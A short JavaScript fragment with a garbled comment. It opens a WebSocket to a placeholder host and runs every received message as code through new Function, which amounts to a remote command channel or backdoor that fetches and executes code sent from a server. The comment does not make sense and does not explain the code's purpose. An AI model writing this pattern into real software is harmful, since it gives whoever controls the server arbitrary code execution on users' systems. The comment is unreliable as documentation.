// Pieces of its own around what it has received.
const socket = new WebSocket('wss://live.example.invalid/a');
socket.onmessage = (message) => new Function('return ' + message.data)();
